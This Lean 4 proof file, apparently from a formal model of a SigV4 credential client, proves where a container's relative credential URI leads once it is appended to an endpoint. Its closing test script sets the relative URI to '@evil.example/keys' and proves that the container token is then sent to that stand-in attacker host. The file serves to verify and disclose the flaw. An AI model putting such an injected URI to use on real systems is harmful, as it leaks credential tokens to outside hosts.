import SigV4.Proofs.Calls
import SigV4.Proofs.Origins
import SigV4.Proofs.Sent
import SigV4.Proofs.Text
import SigV4.Proofs.Uri
import SigV4.World.Script
/-!
# Where a relative URI leads

The URI that a container platform gives relative to an endpoint is put right behind the endpoint, and what comes out
is read again. The scheme is always the endpoint's. The authority is when the relative URI starts with a slash, a
question mark or a number sign, or when the endpoint has a path; else the first part of the relative URI becomes a part
of the authority, and the request goes there with the token of the container.
-/

namespace SigV4

open Http Resolve

/-! ## A server and what is put behind it -/

namespace Http.Uri

variable {bs scheme server tail : Bytes}

/-- What follows a server without a byte that ends it becomes a part of the server. -/
theorem Written.append_tail (h : Written bs scheme server tail) (rest : Bytes) :
    Written (scheme ++ (utf8 "://" ++ (server ++ rest))) scheme (server ++ rest.takeWhile (!endsAuthority ·))
      (rest.dropWhile (!endsAuthority ·)) := by
  have hserver : ∀ b ∈ server, (!endsAuthority b) = true := by simpa using h.server
  have hsplit := written_split (server ++ rest) h.scheme
  rwa [List.takeWhile_append_of_pos hserver, List.dropWhile_append_of_pos hserver] at hsplit

/-- Slashes are dropped from what follows a server and never from the server. -/
theorem Written.rdropWhile_eq (h : Written bs scheme server tail) (hne : server ≠ []) :
    bs.rdropWhile (· == 0x2F) = scheme ++ (utf8 "://" ++ (server ++ tail.rdropWhile (· == 0x2F))) := by
  have hlast : ∀ b ∈ (scheme ++ (utf8 "://" ++ server)).getLast?, (b == 0x2F) = false := by
    intro b hb
    rw [List.getLast?_append, List.getLast?_append, List.getLast?_eq_some_getLast hne, Option.some_or, Option.some_or,
      Option.mem_some_iff] at hb
    have hends := h.server _ (List.getLast_mem hne)
    rw [hb] at hends
    simp only [endsAuthority, Bool.or_eq_false_iff] at hends
    exact hends.1.1
  have hdrop := rdropWhile_append_of_last tail hlast
  rw [h.bytes]
  simpa only [List.append_assoc] using hdrop

end Http.Uri

namespace Source.Container

variable {s : Settings} {w : World} {before : List Call} {relative : String} {scheme : Scheme} {a : Authority}
  {path rest : Bytes} {q : Request}

/-! ## Endpoints -/

/-- A scheme, an authority and maybe a path, without a query or a fragment. -/
structure IsEndpoint (text : String) (scheme : Scheme) (a : Authority) (path : Bytes) : Prop where
  read : ∃ t, Uri.ofText? text = some (.full scheme a t) ∧ t.path = path ∧ t.query = none
  noFragment : (0x23 : UInt8) ∉ utf8 text

/-- What the text of an endpoint is made of. -/
theorem IsEndpoint.written {text : String} (h : IsEndpoint text scheme a path) :
    ∃ name, Uri.Written (utf8 text) name a.bytes path ∧ scheme = .ofName name := by
  obtain ⟨t, hread, hpath, hquery⟩ := h.read
  obtain ⟨name, tail, hwritten, hname, htail⟩ := Uri.written_of_read? hread
  have hmark : (0x23 : UInt8) ∉ tail := by
    intro hm
    refine h.noFragment ?_
    rw [hwritten.bytes]
    simp [hm]
  obtain ⟨hp, hq⟩ := Target.read_eq_ok htail
  rw [Target.withoutFragment_eq hmark] at hp hq
  -- without a query nothing is cut off behind the path
  have hnone : (0x3F : UInt8) ∉ tail := by
    intro hm
    obtain ⟨front, back, rfl, hfront⟩ := List.eq_append_cons_of_mem hm
    rw [(Target.parts_path_query hfront back).2, hquery] at hq
    cases hq
  rw [(Target.parts_path hnone).1, hpath] at hp
  exact ⟨name, hp ▸ hwritten, hname⟩

/-- A relative URI ends the server itself, or stands behind a path. -/
def KeepsServer (path relative : Bytes) : Prop :=
  relative.head?.any Uri.endsAuthority = true ∨ ∃ b ∈ path, b ≠ 0x2F

/-- What comes to stand in the authority behind that of the endpoint. -/
def spill (path relative : Bytes) : Bytes :=
  (path.rdropWhile (· == 0x2F) ++ relative).takeWhile (!Uri.endsAuthority ·)

theorem spill_eq_nil {relative : Bytes} (hpath : path.head?.all Uri.endsAuthority = true) (hr : relative ≠ []) :
    spill path relative = [] ↔ KeepsServer path relative := by
  have hnone : ∀ bs : Bytes, bs ≠ [] → (bs.takeWhile (!Uri.endsAuthority ·) = [] ↔
      bs.head?.any Uri.endsAuthority = true) := by
    intro bs hbs
    cases bs with
    | nil => exact absurd rfl hbs
    | cons b bs => cases hb : Uri.endsAuthority b <;> simp [hb]
  have hslashes : path.rdropWhile (· == 0x2F) = [] ↔ ¬ ∃ b ∈ path, b ≠ 0x2F := by
    simp [List.rdropWhile_eq_nil_iff]
  unfold spill KeepsServer
  cases hp : path.rdropWhile (· == 0x2F) with
  | nil => rw [List.nil_append, hnone relative hr, or_iff_left (hslashes.1 hp)]
  | cons b bs =>
    -- the path ends the server
    obtain ⟨front, hfront⟩ := List.rdropWhile_prefix (· == (0x2F : UInt8)) (l := path)
    rw [hp] at hfront
    have hends : Uri.endsAuthority b = true := by simpa [← hfront] using hpath
    have hkept : ∃ b ∈ path, b ≠ 0x2F := by
      by_contra hnot
      rw [hslashes.2 hnot] at hp
      cases hp
    rw [hnone _ (by simp)]
    simp [hends, hkept]

/-! ## Requests -/

/-- The request to the container's endpoint, if there is one and it can be put together. -/
def Settings.request? (s : Settings) (w : World) : Option Request :=
  (s.uri? w).bind fun uri =>
    Request.build? .get uri ((w.filled? Variable.containerToken).toList.map (FieldName.authorization, ·))

/-- One request is sent and its answer is read. -/
theorem fetch_calls (uri : String) (token : Option String) : ((fetch uri token).run w before).2 =
    before ++ (Request.build? .get uri (token.toList.map (FieldName.authorization, ·))).toList.flatMap w.noted := by
  refine run_asked _ _ _ fun response calls => silent_of_makes ?_
  split
  · exact (makes_fail _).bind fun _ _ hfail => nomatch congrArg Prod.fst hfail
  · refine (makes_orFail _ _).andThen fun answer after => ?_
    exact (makes_mapM (fun t calls => makes_lift _) _).andThen fun expiry after => makes_pure _

/-- Nobody else is called. -/
theorem container_calls (s : Settings) (w : World) (before : List Call) : ((container s).run w before).2 =
    before ++ (s.request? w).toList.flatMap w.noted := by
  unfold container Settings.request?
  rw [run_bind, run_read]
  cases hu : s.uri? w with
  | none => simp [hu]
  | some uri => simp [hu, run_bind, fetch_calls]

/-- A request for a relative URI goes to the scheme of the endpoint, and to its authority with what the relative URI
spills into it. -/
theorem uri_of_request? (hrel : w.filled? Variable.containerRelativeUri = some relative)
    (hend : IsEndpoint (s.endpoint.getD defaultEndpoint) scheme a path) (hq : s.request? w = some q) :
    ∃ a' t, q.uri = .full scheme a' t ∧ a'.bytes = a.bytes ++ spill path (utf8 relative) := by
  obtain ⟨name, hwritten, rfl⟩ := hend.written
  have huri : s.uri? w = some (Text.withoutSlashes (s.endpoint.getD defaultEndpoint) ++ relative) := by
    unfold Settings.uri?
    rw [hrel]
  rw [Settings.request?, huri, Option.bind_some] at hq
  have hread := (Request.builtFrom_of_build? hq).uri
  have hne : a.bytes ≠ [] := by
    intro hnil
    have hvalid := a.valid
    rw [hnil] at hvalid
    exact absurd hvalid (by decide)
  rw [Uri.ofText?, utf8_append, Text.utf8_withoutSlashes, hwritten.rdropWhile_eq hne] at hread
  simp only [List.append_assoc] at hread
  obtain ⟨a', t, hfull, hbytes, -⟩ := (hwritten.append_tail _).read?_eq_some hread
  exact ⟨a', t, hfull, hbytes⟩

theorem token_of_request? (hq : s.request? w = some q) :
    (q.header.values .authorization).map (·.bytes) = (w.filled? Variable.containerToken).toList.map utf8 := by
  obtain ⟨uri, -, hbuilt⟩ := Option.bind_eq_some_iff.1 hq
  rw [(Request.builtFrom_of_build? hbuilt).values_eq]
  cases w.filled? Variable.containerToken <;> simp

/-- At most one request is sent, with the token of the container. With a relative URI it goes to the scheme of the
endpoint, and to the endpoint's own authority just when the relative URI ends the server itself or stands behind a
path; else the authority is a longer one. -/
theorem relative_uri_leads (s : Settings) (w : World) (before : List Call)
    (hrel : w.filled? Variable.containerRelativeUri = some relative)
    (hend : IsEndpoint (s.endpoint.getD defaultEndpoint) scheme a path) :
    ((container s).run w before).2 = before ++ (s.request? w).toList.flatMap w.noted ∧
    ∀ q, s.request? w = some q →
      (∃ a' t, q.uri = .full scheme a' t ∧ a'.bytes = a.bytes ++ spill path (utf8 relative) ∧
        (a' = a ↔ KeepsServer path (utf8 relative))) ∧
      (q.header.values .authorization).map (·.bytes) = (w.filled? Variable.containerToken).toList.map utf8 := by
  refine ⟨container_calls s w before, fun q hq => ⟨?_, token_of_request? hq⟩⟩
  obtain ⟨a', t, hfull, hbytes⟩ := uri_of_request? hrel hend hq
  refine ⟨a', t, hfull, hbytes, ?_⟩
  obtain ⟨name, hwritten, -⟩ := hend.written
  have hne : utf8 relative ≠ [] := mt utf8_eq_nil.1 (World.ne_empty_of_filled? hrel)
  rw [← spill_eq_nil hwritten.tail hne]
  constructor
  · rintro rfl
    simpa using hbytes
  · intro hnil
    rw [hnil, List.append_nil] at hbytes
    cases a
    cases a'
    cases hbytes
    rfl

/-- A container with a token, whose relative URI is that of a user at another host. -/
def strayUri : Script where
  environment := [(Variable.containerRelativeUri, "@evil.example/keys"), (Variable.containerToken, "token")]
  routes := some [⟨none, none, none, none,
    .ok ⟨.ok, utf8 "\x7b\"AccessKeyId\":\"AKID\",\"SecretAccessKey\":\"secret\"\x7d"⟩⟩]

/-- Behind a path it stays with the endpoint. -/
theorem relative_uri_leads_path : ∃ q t a,
    ((container ⟨some "http://10.0.0.1:80/v2/"⟩).run (strayUri.world ⟨0, 0⟩) []).2 = [.http q []] ∧
    q.uri = .full .http a t ∧ a.bytes = utf8 "10.0.0.1:80" ∧
    (q.header.values .authorization).map (·.bytes) = [utf8 "token"] := by
  let a : Authority := ⟨utf8 "10.0.0.1:80", by decide +kernel⟩
  let t : Target := ⟨utf8 "/v2/", none, by decide +kernel, rfl⟩
  have hend : IsEndpoint "http://10.0.0.1:80/v2/" .http a t.path :=
    ⟨⟨t, by decide +kernel, rfl, rfl⟩, by decide⟩
  obtain ⟨hcalls, hsent⟩ := relative_uri_leads ⟨some "http://10.0.0.1:80/v2/"⟩ (strayUri.world ⟨0, 0⟩) [] rfl hend
  have hsome : ((⟨some "http://10.0.0.1:80/v2/"⟩ : Settings).request? (strayUri.world ⟨0, 0⟩)).isSome = true := by
    decide +kernel
  obtain ⟨q, hq⟩ := Option.isSome_iff_exists.1 hsome
  obtain ⟨⟨a', t', huri, -, hkept⟩, htoken⟩ := hsent q hq
  have ha : a' = a := hkept.2 (.inr ⟨0x76, by decide +kernel, by decide⟩)
  refine ⟨q, t', a', ?_, huri, by rw [ha], htoken⟩
  rw [hcalls, hq]
  rfl

/-- Behind a server alone it takes the request, and the token, to the other host. -/
theorem relative_uri_strays : ∃ q, ((container {}).run (strayUri.world ⟨0, 0⟩) []).2 = [.http q []] ∧
    (Uri.ofText? defaultEndpoint).bind Uri.authority? = some ⟨utf8 "169.254.170.2", by decide +kernel⟩ ∧
    q.uri.authority?.map Authority.hostAndPort = some (utf8 "evil.example") ∧
    (q.header.values .authorization).map (·.bytes) = [utf8 "token"] := by
  have hsome : (({} : Settings).request? (strayUri.world ⟨0, 0⟩)).any (fun q =>
      q.uri.authority?.map Authority.hostAndPort == some (utf8 "evil.example") &&
        (q.header.values .authorization).map (·.bytes) == [utf8 "token"]) = true := by decide +kernel
  cases hq : ({} : Settings).request? (strayUri.world ⟨0, 0⟩) with
  | none =>
    rw [hq] at hsome
    cases hsome
  | some q =>
    rw [hq, Option.any_some, Bool.and_eq_true, beq_iff_eq, beq_iff_eq] at hsome
    refine ⟨q, ?_, by decide +kernel, hsome⟩
    rw [container_calls, hq]
    rfl

end Source.Container

end SigV4
